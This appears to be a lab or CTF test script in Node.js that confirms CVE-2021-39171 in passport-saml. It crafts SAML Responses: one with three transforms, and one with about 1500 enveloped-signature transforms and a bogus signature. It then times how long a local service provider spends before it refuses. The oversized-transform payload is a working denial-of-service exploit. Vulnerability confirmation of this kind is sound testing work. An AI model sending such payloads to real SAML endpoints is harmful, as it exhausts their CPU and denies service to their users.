// node confirm.js (env MNCTF_LAB_INSTALL, RELEASE_DIR)
// CVE-2021-39171 (GHSA-5379-r78w-42h2): a Reference with more than two Transforms. passport-saml < 3.1.0
// runs every Transform before it checks anything (CPU exhaustion); 3.1.0 throws on > 2 transforms.
//  a) an IdP-signed Response whose Reference has 3 Transforms (enveloped, enveloped, exc-c14n);
//  b) a Response with N enveloped-signature Transforms and a bogus SignatureValue (no key needed):
//     time how long the SP spends before it answers.
'use strict';
const path = require('path');
const g = require('./genlib');
const { makeSp } = require(path.join(process.env.RELEASE_DIR, 'sp.js'));
const N = Number(process.env.TRANSFORMS || 1500);
const port = 27006;
const idp = g.mkKeys('confirm-idp');
const idpEntity = 'http://127.0.0.1:18999/idp';
const idpMetadata = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="${idpEntity}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${idp.certB64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="http://127.0.0.1:18999/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>`;
const spKeys = g.mkKeys('confirm-sp');
const sp = makeSp({ port, idpMetadata, spKey: spKeys.key, spCert: spKeys.certPem, authnClass: 'urn:mnctf:ac:classes:jpki-user-authentication' });
const base = `http://127.0.0.1:${port}`, acs = `${base}/acs`, audience = `${base}/metadata`;
const ENV = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature', EXC = 'http://www.w3.org/2001/10/xml-exc-c14n#';
async function run(label, transforms, bogus) {
  const irt = g.requestIdFromUrl(await sp.authorizeUrl());
  const rId = g.rid();
  let msg = g.sign(g.responseXml({ rId, idpEntity, acs, irt, inner: g.assertionXml({ aId: g.rid(), idpEntity, nameID: 'alice', acs, audience, irt }) }), rId, { key: idp.key, transforms });
  if (bogus) msg = msg.replace(/<ds:SignatureValue>[^<]*/, '<ds:SignatureValue>AAAA');
  const t0 = Date.now();
  let out;
  try { const { profile } = await sp.validate(Buffer.from(msg).toString('base64')); out = `ACCEPTED, NameID=${profile && profile.nameID}`; }
  catch (e) { out = `refused: ${e.message.slice(0, 100)}`; }
  const ms = Date.now() - t0;
  console.log(`  ${label}: ${out} (${ms} ms, ${msg.length} bytes)`);
  return { ok: out.startsWith('ACCEPTED'), ms, out };
}
(async () => {
  const control = await run('control (2 transforms)', [ENV, EXC]);
  if (!control.ok) { console.log('  control refused: the result says nothing'); process.exit(2); }
  const three = await run('3 transforms, IdP-signed', [ENV, ENV, EXC]);
  const many = await run(`${N} transforms, bogus SignatureValue`, [...Array(N - 1).fill(ENV), EXC], true);
  const ran = /too many transforms/.test(many.out) ? false : true;
  console.log(`  ${ran ? 'ran all transforms before refusing' : 'refused before running the transforms'}`);
  process.exit(three.ok && ran ? 0 : (!three.ok && !ran ? 1 : 3));
})();
